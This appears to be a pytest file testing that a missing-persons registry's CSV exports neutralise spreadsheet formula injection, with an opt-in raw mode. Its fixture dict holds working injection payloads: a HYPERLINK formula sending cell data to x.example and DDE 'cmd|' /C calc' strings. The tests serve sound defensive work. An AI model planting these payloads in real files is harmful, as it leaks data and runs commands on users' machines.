"""No CSV export hands a spreadsheet a formula to run (OWASP's rule), unless raw cells are asked for."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from tests.helpers import canonical_rows, write_csv

from unforgotten.domain.cells import neutralise
from unforgotten.estimate.table import CaptureTable
from unforgotten.ingest import import_file
from unforgotten.store.export import export
from unforgotten.store.workspace import Workspace
from unforgotten.tracking.disclosure import PersonRow, public_table
from unforgotten.tracking.public import render

HOSTILE = {
    "=": '=HYPERLINK("https://x.example/?"&L2&M2,"see")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("start", list(HOSTILE))
def test_every_formula_start_is_neutralised(start: str) -> None:
    value = HOSTILE[start]
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-12", "+3.5", "-0.25e3", "Kim Chol-su", "김철수", "", "1950-07", "'=x"])
def test_numbers_and_ordinary_text_are_left_alone(value: str) -> None:
    assert neutralise(value) == value


def hostile_registry(ws: Workspace, tmp_path: Path) -> None:
    rows = canonical_rows(len(HOSTILE))
    for row, value in zip(rows, HOSTILE.values(), strict=True):
        row["notes"] = value
    rows[0]["informant_contact"] = HOSTILE["="]
    import_file(ws, write_csv(tmp_path / "hostile.csv", rows), source="A")


def notes_of(text: str) -> list[str]:
    return [r["notes"] for r in csv.DictReader(io.StringIO(text, newline=""))]


def test_record_export_neutralises_by_default_and_raw_cells_keeps_them(ws: Workspace, tmp_path: Path) -> None:
    hostile_registry(ws, tmp_path)
    out = tmp_path / "records.csv"
    export(ws, "records", out, raw_cells=True)
    raw = notes_of(out.read_text(encoding="utf-8"))
    assert len(raw) == len(HOSTILE) and all(v.startswith(("=", "+", "-", "@")) for v in raw)
    export(ws, "records", out, include_protected=True)
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["notes"] for r in rows] == ["'" + v for v in raw]
    assert [r["informant_contact"] for r in rows if r["informant_contact"]] == ["'" + HOSTILE["="]]


def test_public_table_and_capture_table_neutralise() -> None:
    rows = [PersonRow(str(i), "=cmd()", "KP-01", "1950s", consented=True) for i in range(6)]
    table = public_table(rows, by=["case_type"], threshold=5)
    text = render(table, fmt="csv")
    assert text.splitlines()[1].startswith("'=cmd(),6")
    assert render(table, fmt="csv", raw_cells=True).splitlines()[1].startswith("=cmd(),6")


def test_capture_table_list_names_are_neutralised(tmp_path: Path) -> None:
    table = CaptureTable.from_counts(["=A1+B1", "B"], {(1, 0): 3, (0, 1): 2, (1, 1): 1})
    table.to_csv(tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8").splitlines()[0] == "'=A1+B1,B,count"
